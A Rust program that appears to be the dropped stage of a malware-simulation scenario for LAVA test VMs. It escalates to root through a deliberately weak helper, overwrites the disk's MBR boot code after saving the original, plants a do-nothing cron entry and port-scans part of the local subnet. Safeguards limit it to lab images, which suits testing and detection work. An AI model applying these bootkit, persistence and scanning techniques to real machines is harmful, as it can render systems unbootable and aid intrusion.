//! What the applet drops: takes root through the weak helper, plants the boot sector and a cron entry, looks around.
//!
//! Everything it plants is harmless, and it acts only in a LAVA micro-VM with the scenario's disk
//! ([`drive_by::allowed`]) whose first disk is one of LAVA's images. What it did it says on the serial console, one line each.
//!
//! Exit codes: 0 all was done; 5 the boot sector could not be written; 6 another step failed; 64 refused.

use std::fs::{self, File};
use std::io::{self, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
use std::os::unix::fs::{FileExt, OpenOptionsExt};
use std::process::{Command, ExitCode};
use std::time::{Duration, Instant};

use rustix::fs::{Advice, OFlags};

/// boot/boot.S, assembled by build.rs.
const BOOT_CODE: &[u8] = include_bytes!(concat!(env!("OUT_DIR"), "/boot.bin"));
const BOOT_CODE_SIZE: usize = 440;
const SECTOR: usize = 512;
/// Where the boot sector looks for the original: LBA 2, in the gap before the first partition.
const SAVED_AT: usize = 2 * SECTOR;
const DISK: &str = "/dev/vda";
/// The upper half of the disk signature (bytes 440-443) of LAVA's guest images: no other disk is written to.
const IMAGE_SIGNATURE: [u8; 2] = [0x7a, 0x1a];

const HELPER: &str = "/opt/scenario/bin/weak-helper";
const CRON: &str = "/etc/cron.d/drive-by";
const CRON_TEXT: &str = "# LAVA drive-by: planted cron entry (does nothing)\n0 5 * * 0 root /bin/true\n";
const CONSOLE: &str = "/dev/ttyS0";

const PORTS: [u16; 2] = [22, 445];
const HOSTS: std::ops::RangeInclusive<u8> = 20..=29;
const CONNECT: Duration = Duration::from_millis(300);
/// How long to wait for the interface to get its address.
const NETWORK_WAIT: Duration = Duration::from_secs(10);

const NO_BOOT_SECTOR: u8 = 5;
const FAILED: u8 = 6;

fn main() -> ExitCode {
    if !drive_by::allowed() {
        return ExitCode::from(drive_by::REFUSED);
    }
    match std::env::args().nth(1).as_deref() {
        None => escalate(),
        Some("--stage2") => stage2(),
        Some(other) => {
            eprintln!("drive-by: what is {other}?");
            ExitCode::from(2)
        }
    }
}

/// Runs this program again, through the helper that makes it root's.
fn escalate() -> ExitCode {
    let status = std::env::current_exe().and_then(|own| Command::new(HELPER).arg(own).arg("--stage2").status());
    match status {
        Ok(status) => ExitCode::from(status.code().and_then(|code| u8::try_from(code).ok()).unwrap_or(FAILED)),
        Err(error) => {
            eprintln!("drive-by: {HELPER}: {error}");
            ExitCode::from(FAILED)
        }
    }
}

fn stage2() -> ExitCode {
    let uid = rustix::process::getuid().as_raw();
    say(&format!("stage 2 as uid {uid}"));
    let planted = plant();
    let cron = write_cron();
    say(&format!("cron entry: {}", outcome(&cron)));
    let network = look_around();
    rustix::fs::sync();
    let code = if planted.is_err() {
        NO_BOOT_SECTOR
    } else if cron.is_err() || network.is_err() {
        FAILED
    } else {
        0
    };
    say(&format!("done, exit {code}"));
    ExitCode::from(code)
}

/// Saves the original boot sector, then writes our boot code over its code.
fn plant() -> io::Result<()> {
    let opened = File::options().read(true).write(true).open(DISK).and_then(|disk| Ok((read_start(&disk)?, disk)));
    let (start, disk) = match opened {
        Ok(opened) => opened,
        Err(error) => {
            say(&format!("MBR write: {DISK}: {error}"));
            return Err(error);
        }
    };
    let mut code = [0; BOOT_CODE_SIZE];
    code[..BOOT_CODE.len()].copy_from_slice(BOOT_CODE);
    if start[..BOOT_CODE_SIZE] == code {
        say("MBR write: already done");
        return Ok(());
    }
    let saved = if start[SAVED_AT..SAVED_AT + SECTOR] == start[..SECTOR] {
        Ok(())
    } else {
        write(&disk, &start[..SECTOR], SAVED_AT)
    };
    say(&format!("MBR save: {}", outcome(&saved)));
    let written = write(&disk, &code, 0);
    say(&format!("MBR write: {}", outcome(&written)));
    if saved.is_err() && written.is_ok() {
        // Without the original the machine would not start any more.
        let undone = write(&disk, &start[..BOOT_CODE_SIZE], 0);
        say(&format!("MBR write undone: {}", outcome(&undone)));
    }
    saved.and(written)
}

/// The first 4 KiB, if the disk is one of LAVA's images and has room for the original.
fn read_start(disk: &File) -> io::Result<[u8; 4096]> {
    let mut start = [0; 4096];
    disk.read_exact_at(&mut start, 0)?;
    let image = start[442..444] == IMAGE_SIGNATURE && start[510..SECTOR] == [0x55, 0xaa];
    let planted = start[..BOOT_CODE.len()] == *BOOT_CODE;
    let room = start[SECTOR..SAVED_AT + SECTOR].iter().all(|&byte| byte == 0);
    // An earlier run's, whose second write was refused.
    let saved = start[SAVED_AT..SAVED_AT + SECTOR] == start[..SECTOR];
    match (image, planted || room || saved) {
        (false, _) => Err(io::Error::other("refused: not a disk of a LAVA image")),
        (true, false) => Err(io::Error::other("refused: the gap behind the MBR is in use")),
        (true, true) => Ok(start),
    }
}

fn write(disk: &File, bytes: &[u8], offset: usize) -> io::Result<()> {
    let result = disk.write_all_at(bytes, offset as u64).and_then(|()| disk.sync_all());
    if result.is_err() {
        // What the disk refused is still in the page cache; nobody shall read it from there.
        let _only_a_hint = rustix::fs::fadvise(disk, 0, None, Advice::DontNeed);
    }
    result
}

fn write_cron() -> io::Result<()> {
    let mut file = File::options().write(true).create(true).truncate(true).mode(0o644).open(CRON)?;
    file.write_all(CRON_TEXT.as_bytes())?;
    file.sync_all()
}

/// Tries two ports of remote services on ten addresses of the own /24.
fn look_around() -> io::Result<()> {
    let own = match own_address() {
        Ok(own) => own,
        Err(error) => {
            say(&format!("network: {error}"));
            return Err(error);
        }
    };
    let [a, b, c, _] = own.octets();
    let mut open = 0;
    for host in HOSTS {
        for port in PORTS {
            let address = SocketAddr::from(([a, b, c, host], port));
            open += u32::from(TcpStream::connect_timeout(&address, CONNECT).is_ok());
        }
    }
    let (first, last) = (HOSTS.start(), HOSTS.end());
    let tried = HOSTS.count() * PORTS.len();
    say(&format!("network: {a}.{b}.{c}.{first}-{last} ports 22, 445: tried {tried}, open {open}"));
    Ok(())
}

/// The address that packets to the first network of the routing table carry.
fn own_address() -> io::Result<Ipv4Addr> {
    let deadline = Instant::now() + NETWORK_WAIT;
    loop {
        let table = fs::read_to_string("/proc/net/route")?;
        if let Some(own) = network(&table).and_then(address_towards) {
            return Ok(own);
        }
        if Instant::now() > deadline {
            return Err(io::Error::other("no IPv4 network"));
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// The first network in `/proc/net/route` that is reached without a gateway.
fn network(table: &str) -> Option<Ipv4Addr> {
    table.lines().skip(1).find_map(|line| {
        let fields: Vec<&str> = line.split_whitespace().collect();
        let [interface, destination, gateway, ..] = fields[..] else { return None };
        let number = |text| u32::from_str_radix(text, 16).ok();
        // The kernel prints the number as it lies in memory, least byte first.
        let destination = Ipv4Addr::from(number(destination)?.to_le_bytes());
        (interface != "lo" && number(gateway)? == 0 && !destination.is_unspecified()).then_some(destination)
    })
}

/// The own address towards a network. Connecting a datagram socket sends nothing.
fn address_towards(network: Ipv4Addr) -> Option<Ipv4Addr> {
    let [a, b, c, _] = network.octets();
    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)).ok()?;
    socket.connect((Ipv4Addr::new(a, b, c, *HOSTS.start()), 9)).ok()?;
    match socket.local_addr().ok()? {
        SocketAddr::V4(own) if !own.ip().is_loopback() && !own.ip().is_unspecified() => Some(*own.ip()),
        _ => None,
    }
}

fn outcome<T>(result: &io::Result<T>) -> String {
    match result {
        Ok(_) => "ok".to_owned(),
        Err(error) if error.raw_os_error() == Some(rustix::io::Errno::IO.raw_os_error()) => {
            "Input/output error (EIO)".to_owned()
        }
        Err(error) => error.to_string(),
    }
}

/// One line on the serial console, where the machine's owner sees it.
fn say(what: &str) {
    let flags = i32::try_from(OFlags::NOCTTY.bits()).unwrap_or(0);
    let console = File::options().write(true).custom_flags(flags).open(CONSOLE);
    let said = console.and_then(|mut console| console.write_all(format!("drive-by: {what}\n").as_bytes()));
    if let Err(error) = said {
        eprintln!("drive-by: {what} ({CONSOLE}: {error})");
    }
}
